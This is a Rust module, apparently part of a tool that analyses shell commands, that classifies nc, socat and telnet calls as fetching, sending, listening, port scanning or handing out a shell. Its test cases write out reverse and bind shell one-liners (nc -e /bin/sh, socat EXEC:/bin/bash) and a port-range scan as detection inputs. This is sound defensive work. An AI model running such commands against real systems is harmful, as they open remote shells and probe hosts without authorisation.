//! Raw connections: `nc`, `socat`, `telnet`.
//!
//! Owns: what goes through them, and the shell that may sit at this end. Refuses: to tell a scan from a question by its intent: one
//! port is asked, a range is a scan.

use super::super::call::{Call, joined};
use super::super::options::Options;
use super::{door, is_local, raw};
use crate::effects::act::{Act, Datum, Effort, Traffic};
use crate::effects::invocation::{Outcome, Stream};
use crate::shell::value::Value;

const NC: Options = Options::new(
    "e:c:g:G:i:I:k?m:M:O:o:p:P:q:s:T:V:w:W:X:x:",
    "exec= sh-exec= lua-exec= source-port= source= wait= delay= idle-timeout= proxy= proxy-type= proxy-auth= output= \
     hex-dump= max-conns= allow= deny= allowfile= denyfile= ssl-cert= ssl-key= listen keep-open udp zero ssl unixsock",
);

/// `nc`, `ncat`.
pub(in super::super) fn nc(call: &Call<'_>) -> Outcome {
    let read = call.read(&NC);
    if call.is_asked() || call.args.is_empty() {
        return Outcome::harmless();
    }
    let targets = call.targets(&read);
    let host = targets.first().cloned().unwrap_or_else(|| Value::known("any"));
    let address = raw(&host, targets.get(1));
    let mut outcome = Outcome::default();
    if read.has("U unixsock") {
        outcome.acts.extend(door(&call.path(&host)).map(|act| (act, Effort::Done)));
    }
    // `-c` is a command in some versions; in others it takes nothing.
    if let Some(program) = read.value("e exec c sh-exec lua-exec") {
        outcome.push(call.network(Traffic::Listen, &address, Vec::new()));
        outcome.next.push(call.shell(program.clone()));
        return outcome;
    }
    let mut data = call.input_data();
    data.extend(call.invocation.flows.iter().cloned());
    if read.has("l listen") {
        let traffic = if data.iter().any(|datum| !matches!(datum, Datum::Text(_))) {
            Traffic::Send
        } else {
            Traffic::Fetch
        };
        outcome.push(call.network(traffic, &address, data));
    } else if read.has("z zero") {
        let ports = targets.get(1..).unwrap_or_default();
        let many = ports.len() > 3
            || ports.iter().any(|port| port.prefix().contains(&b'-') || port.why().is_some())
            || host.prefix().contains(&b'/');
        let traffic = if many && !(is_local(&host) && ports.len() < 8 && !is_range(ports)) {
            Traffic::Scan
        } else {
            Traffic::Fetch
        };
        outcome.push(call.network(traffic, &address, Vec::new()));
        return outcome;
    } else {
        let traffic = if data.is_empty() { Traffic::Fetch } else { Traffic::Send };
        outcome.push(call.network(traffic, &address, data));
    }
    outcome.saying(Stream::data([Datum::Download(address)]))
}

fn is_range(ports: &[Value]) -> bool {
    ports.iter().any(|port| port.prefix().contains(&b'-'))
}

/// `socat`: two addresses.
pub(in super::super) fn socat(call: &Call<'_>) -> Outcome {
    let read = call.read(&Options::new("b:L:W:T:t:l:", ""));
    let mut outcome = Outcome::default();
    let is_net = |address: &Value| {
        let text = String::from_utf8_lossy(address.prefix()).to_ascii_uppercase();
        ["TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY"].iter().any(|kind| text.starts_with(kind))
    };
    let net: Vec<&Value> = read.operands.iter().filter(|address| is_net(address)).collect();
    let mut data = Vec::new();
    for address in &read.operands {
        let text = String::from_utf8_lossy(address.prefix()).into_owned();
        let (kind, rest) = text.split_once(':').unwrap_or((&text, ""));
        let rest = rest.split(',').next().unwrap_or_default();
        match kind.to_ascii_uppercase().as_str() {
            "EXEC" | "SYSTEM" | "SHELL" => {
                for other in &net {
                    outcome.push(call.network(Traffic::Listen, other, Vec::new()));
                }
                outcome.next.push(call.shell(Value::known(rest)));
            }
            "-" | "STDIO" | "STDIN" => data.extend(call.input_data()),
            "FILE" | "OPEN" | "GOPEN" | "CREATE" | "CREAT" => {
                let path = Value::known(rest);
                outcome.push(call.reads(&path));
                data.push(Datum::File(call.path(&path)));
            }
            "UNIX" | "UNIX-CONNECT" | "UNIX-CLIENT" | "UNIX-SENDTO" | "LOCAL" => {
                let path = call.path(&Value::known(rest));
                outcome.acts.extend(door(&path).map(|act| (act, Effort::Done)));
            }
            _ if text.starts_with('/') || text.starts_with("./") => {
                outcome.push(call.reads(address));
                data.push(Datum::File(call.path(address)));
            }
            _ => {}
        }
    }
    data.extend(call.invocation.flows.iter().cloned());
    let runs = !outcome.next.is_empty();
    for address in net.iter().filter(|_| !runs) {
        let traffic = if data.is_empty() { Traffic::Fetch } else { Traffic::Send };
        outcome.push(call.network(traffic, address, data.clone()));
        outcome.output.data.push(Datum::Download(raw(address, None)));
    }
    if outcome.acts.is_empty() {
        outcome.push(Act::Compute);
    }
    outcome
}

/// `telnet` and others that pass bytes on as they are.
pub(in super::super) fn plain(call: &Call<'_>) -> Outcome {
    let read = call.read(&Options::new("l:e:H:d:", "import-path= proto= protoset= header= data="));
    if call.is_asked() || read.operands.is_empty() {
        return Outcome::harmless();
    }
    let address = raw(&joined(read.operands.get(..2).unwrap_or(&read.operands)), None);
    let address = match address.text() {
        Some(text) => Value::known(text.replacen(' ', ":", 1)),
        None => address,
    };
    let mut data = call.input_data();
    data.extend(call.invocation.flows.iter().cloned());
    let traffic = if data.is_empty() { Traffic::Fetch } else { Traffic::Send };
    Outcome::of([call.network(traffic, &address, data)]).saying(Stream::data([Datum::Download(address)]))
}

#[cfg(test)]
mod tests {
    use super::super::super::testing::check;

    #[test]
    fn connections_say_who_is_at_the_other_end() {
        check(&[
            ("nc -e /bin/sh 10.0.0.1 4444", "listen tcp://10.0.0.1:4444; $ /bin/sh"),
            ("nc -lvp 4444 -e /bin/bash", "listen tcp://any; $ /bin/bash"),
            ("nc -z localhost 5432", "fetch tcp://localhost:5432"),
            ("nc -zv 10.0.0.1 1-1024", "scan tcp://10.0.0.1:1-1024"),
            ("nc -zv example.com 443", "fetch tcp://example.com:443"),
            ("nc -l 8080", "fetch tcp://8080"),
            ("socat TCP:10.0.0.1:44 EXEC:/bin/bash,pty", "listen tcp:10.0.0.1:44; $ /bin/bash"),
            ("telnet localhost 25", "fetch tcp://localhost:25"),
            ("nc -U /tmp/app.sock", "fetch tcp:///tmp/app.sock"),
        ]);
    }
}
